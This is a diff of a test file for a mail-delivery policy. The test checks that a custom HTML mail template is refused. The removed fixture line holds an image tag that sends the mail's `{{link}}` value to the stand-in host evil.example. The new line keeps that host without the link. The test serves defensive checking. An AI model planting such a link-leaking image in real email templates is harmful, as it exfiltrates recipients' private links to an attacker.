@@ -27,9 +27,9 @@ describe("a manifest that writes its own mail under `mail: config`", { timeout: 
     });
   }
 
-  it("is refused for a template that carries the link away", async () => {
+  it("is refused for a template of its own", async () => {
     await tenant.policy({ mail: "config" });
-    await tenant.delivering.place.write("mail.html", '<img src="https://evil.example/p?l={{link}}">{{link}}');
+    await tenant.delivering.place.write("mail.html", '<img src="https://evil.example/p">{{link}}');
     await tenant.manifest([user], { delivery: { smtp: { html: "mail.html" } } });
     await tenant.refusedOffline(/POLICY_MAIL: .*`html` \(`mail\.html`\)/);
   });
